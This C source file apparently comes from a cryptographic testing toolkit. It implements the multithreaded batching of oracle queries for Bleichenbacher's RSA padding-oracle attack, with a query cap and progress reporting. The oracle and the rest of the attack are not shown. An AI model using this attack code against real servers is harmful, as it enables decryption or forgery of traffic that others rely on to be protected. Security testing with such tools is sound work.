/* ts_bleich_batch: Bleichenbacher's attack's queries, a batch at a time:
 * the caller's thread takes queries 0, T, 2T, ..., helper i the queries
 * i, i + T, ... (T threads), then the answers are read in order. */
#include "crypto/attack/ts_bleich_batch.h"

#include <pthread.h>

/* Asks the oracle about the batch's queries id, id + step, ... */
static void run_share(ts_bleich_state *st, unsigned id, unsigned step, mpz_t x, uint8_t *buf)
{
    const ts_bleich_cfg *cfg = st->cfg;
    for (size_t i = id; i < st->job_n; i += step) {
        mpz_powm(x, st->cand[i], st->e, st->n);
        mpz_mul(x, x, st->job_base);
        mpz_mod(x, x, st->n);
        ts_bleich_to_fixed(x, buf, st->k);
        st->ans[i] = false;
        st->errs[i] = cfg->oracle(cfg->oracle_ctx, buf, st->k, &st->ans[i]);
    }
}

static void *helper_main(void *arg)
{
    ts_bleich_helper *h = arg;
    ts_bleich_state *st = h->st;
    unsigned seen = 0;
    pthread_mutex_lock(&st->mu);
    for (;;) {
        while (!st->quit && st->gen == seen) {
            pthread_cond_wait(&st->go, &st->mu);
        }
        if (st->quit) {
            break;
        }
        seen = st->gen;
        unsigned step = st->threads;
        pthread_mutex_unlock(&st->mu);
        run_share(st, h->id, step, h->x, h->buf);
        pthread_mutex_lock(&st->mu);
        if (--st->busy == 0) {
            pthread_cond_signal(&st->done);
        }
    }
    pthread_mutex_unlock(&st->mu);
    return NULL;
}

void ts_bleich_pool_start(ts_bleich_state *st)
{
    unsigned want = st->cfg->threads > TS_BLEICH_MAX_THREADS ? TS_BLEICH_MAX_THREADS
                                                              : st->cfg->threads;
    st->threads = 1;
    if (want < 2) {
        return;
    }
    pthread_mutex_init(&st->mu, NULL);
    pthread_cond_init(&st->go, NULL);
    pthread_cond_init(&st->done, NULL);
    for (unsigned i = 0; i + 1 < want; i++) {
        ts_bleich_helper *h = &st->h[i];
        h->st = st;
        h->id = i + 1;
        mpz_init(h->x);
        if (pthread_create(&h->th, NULL, helper_main, h) != 0) {
            mpz_clear(h->x);
            break;
        }
        st->threads++;
    }
}

void ts_bleich_pool_stop(ts_bleich_state *st)
{
    if (st->cfg->threads < 2) {
        return;
    }
    pthread_mutex_lock(&st->mu);
    st->quit = true;
    pthread_cond_broadcast(&st->go);
    pthread_mutex_unlock(&st->mu);
    for (unsigned i = 0; i + 1 < st->threads; i++) {
        pthread_join(st->h[i].th, NULL);
        mpz_clear(st->h[i].x);
    }
    pthread_cond_destroy(&st->go);
    pthread_cond_destroy(&st->done);
    pthread_mutex_destroy(&st->mu);
}

ts_err ts_bleich_batch(ts_bleich_state *st, mpz_srcptr base, size_t count)
{
    const ts_bleich_cfg *cfg = st->cfg;
    bool cut = false;
    if (cfg->max_queries > 0) {
        TS_ENSURE(st->p.queries < cfg->max_queries, TS_ERR_TIMEOUT);
        if (count > cfg->max_queries - st->p.queries) {
            count = (size_t)(cfg->max_queries - st->p.queries);
            cut = true;
        }
    }
    st->job_base = base;
    st->job_n = count;
    if (st->threads > 1 && count > 1) {
        pthread_mutex_lock(&st->mu);
        st->busy = st->threads - 1;
        st->gen++;
        pthread_cond_broadcast(&st->go);
        pthread_mutex_unlock(&st->mu);
        run_share(st, 0, st->threads, st->x, st->buf);
        pthread_mutex_lock(&st->mu);
        while (st->busy > 0) {
            pthread_cond_wait(&st->done, &st->mu);
        }
        pthread_mutex_unlock(&st->mu);
    } else {
        run_share(st, 0, 1, st->x, st->buf);
    }
    for (size_t i = 0; i < count; i++) {
        TS_GUARD(st->errs[i]);
    }
    st->p.queries += count;
    if (st->p.queries >= st->next_report) {
        uint64_t every = cfg->progress_every > 0 ? cfg->progress_every : 1024;
        st->next_report = (st->p.queries / every + 1) * every;
        ts_bleich_report(st);
    }
    return cut ? TS_ERR_TIMEOUT : TS_OK;
}

size_t ts_bleich_first_yes(const ts_bleich_state *st, size_t count)
{
    size_t i = 0;
    while (i < count && !st->ans[i]) {
        i++;
    }
    return i;
}
